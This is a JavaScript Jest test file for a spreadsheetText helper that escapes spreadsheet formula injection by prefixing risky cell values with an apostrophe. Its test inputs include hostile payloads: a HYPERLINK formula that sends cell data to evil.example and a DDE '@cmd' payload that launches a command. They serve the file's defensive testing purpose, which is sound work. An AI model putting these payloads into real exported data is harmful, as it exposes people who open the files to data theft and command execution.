import { describe, expect, it } from '@jest/globals';
import { spreadsheetText } from './spreadsheet-cell.js';

describe('spreadsheetText', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', `'=HYPERLINK("http://evil.example/?x="&A1,"点击")`],
    ['+SUM(1+1)', "'+SUM(1+1)"],
    ['-2+3', "'-2+3"],
    ['@cmd|"/c calc"!A0', `'@cmd|"/c calc"!A0`],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
  ])('keeps %j as text', (value, cell) => {
    expect(spreadsheetText(value)).toBe(cell);
  });
  it.each(['上海杨浦示例健身有限公司', '五角场街道', 'A=1', '1-2', ''])('leaves %j alone', (value) => {
    expect(spreadsheetText(value)).toBe(value);
  });
  it('writes nothing for a missing value', () => {
    expect(spreadsheetText(null)).toBe('');
    expect(spreadsheetText(undefined)).toBe('');
  });
});
